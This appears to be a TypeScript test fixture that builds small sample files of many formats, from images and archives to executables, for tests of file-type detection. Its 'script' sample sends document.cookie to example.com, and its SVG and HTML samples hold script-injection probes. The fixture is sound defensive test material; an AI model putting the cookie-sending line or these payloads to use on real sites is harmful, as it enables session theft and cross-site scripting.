import { crc32, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';

/** Small files that are what they say, for tests that look into them. */
export const SAMPLES = {
  png: png(),
  jpeg: Buffer.concat([
    Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300', 'hex'),
    Buffer.alloc(64, 16),
    Buffer.from('ffd9', 'hex'),
  ]),
  gif: Buffer.from(
    '47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b',
    'hex',
  ),
  bmp: Buffer.concat([Buffer.from('424d3a000000000000003600000028000000', 'hex'), Buffer.alloc(40)]),
  heic: isoMedia('heic'),
  avif: isoMedia('avif'),
  tiff: Buffer.from('49492a00080000000100000103000100000001000000000000000000', 'hex'),
  mp4: isoMedia('isom'),
  m4a: isoMedia('M4A '),
  quicktime: isoMedia('qt  '),
  webm: matroska('webm'),
  mkv: matroska('matroska'),
  wav: Buffer.concat([
    Buffer.from('RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0', 'latin1'),
    Buffer.alloc(24),
  ]),
  mp3: Buffer.concat([Buffer.from('fffb9064', 'hex'), Buffer.alloc(413)]),
  taggedMp3: Buffer.concat([Buffer.from('494433030000000f7f76', 'hex'), Buffer.alloc(8_000)]),
  ogg: Buffer.concat([
    Buffer.from('OggS\0\x02', 'latin1'),
    Buffer.alloc(22),
    Buffer.from('\x01vorbis\0', 'latin1'),
  ]),
  pdf: Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n', 'latin1'),
  zip: zip({ 'readme.txt': 'hello' }),
  docx: zip({
    '[Content_Types].xml': contentTypes('wordprocessingml.document'),
    'word/document.xml': '<w/>',
  }),
  xlsx: zip({ '[Content_Types].xml': contentTypes('spreadsheetml.sheet'), 'xl/workbook.xml': '<w/>' }),
  /** What tells the format comes after what is looked at. */
  lateDocx: zip({ 'word/media/image1.bin': pseudoRandom(8_000), '[Content_Types].xml': '<Types/>' }),
  epub: zip({ mimetype: 'application/epub+zip', 'META-INF/container.xml': '<container/>' }),
  jar: zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\n' }),
  oldOffice: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]),
  gzip: gzipSync('hello '.repeat(50)),
  elf: Buffer.concat([Buffer.from('7f454c46020101000000000000000000', 'hex'), Buffer.alloc(64)]),
  exe: Buffer.concat([Buffer.from('4d5a9000030000000400', 'hex'), Buffer.alloc(64)]),
  svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  html: Buffer.from('<!DOCTYPE html>\n<html><script>alert(1)</script></html>'),
  xml: Buffer.from('<?xml version="1.0"?>\n<gpx version="1.1"></gpx>'),
  script: Buffer.from('fetch("https://example.com/" + document.cookie)\n'),
  csv: Buffer.from('name,price\nBread,2.50\nZoë’s cake,17\n'),
  json: Buffer.from('{"a": 1}\n'),
  empty: Buffer.alloc(0),
} as const;

function png(): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    return Buffer.concat([uint32(data.length), body, uint32(crc32(body))]);
  };
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', Buffer.from('00000001000000010800000000', 'hex')),
    chunk('IDAT', deflateSync(Buffer.from([0, 0]))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function isoMedia(brand: string): Buffer {
  return Buffer.concat([
    uint32(20),
    Buffer.from(`ftyp${brand}`),
    uint32(512),
    Buffer.from('isom'),
    Buffer.alloc(40),
  ]);
}

function matroska(type: string): Buffer {
  const docType = Buffer.concat([Buffer.from([0x42, 0x82, 0x80 | type.length]), Buffer.from(type)]);
  const header = Buffer.concat([Buffer.from('1a45dfa3', 'hex'), Buffer.from([0x80 | docType.length])]);
  return Buffer.concat([header, docType, Buffer.alloc(40)]);
}

/** As archivers write it, without the directory at the end. */
function zip(entries: Readonly<Record<string, string | Buffer>>): Buffer {
  const files = Object.entries(entries).map(([name, content]) => {
    const data = Buffer.from(content);
    const packed = deflateRawSync(data);
    const header = Buffer.alloc(30);
    header.write('PK\x03\x04', 'latin1');
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(8, 8);
    header.writeUInt32LE(crc32(data), 14);
    header.writeUInt32LE(packed.length, 18);
    header.writeUInt32LE(data.length, 22);
    header.writeUInt16LE(name.length, 26);
    return Buffer.concat([header, Buffer.from(name), packed]);
  });
  return Buffer.concat(files);
}

function contentTypes(format: string): string {
  const type = `application/vnd.openxmlformats-officedocument.${format}.main+xml`;
  return `<Types><Override PartName="/main.xml" ContentType="${type}"/></Types>`;
}

/** Bytes that do not compress. */
function pseudoRandom(length: number): Buffer {
  let state = 1;
  return Buffer.from(Array.from({ length }, () => (state = (state * 48_271) % 2_147_483_647) & 0xff));
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}
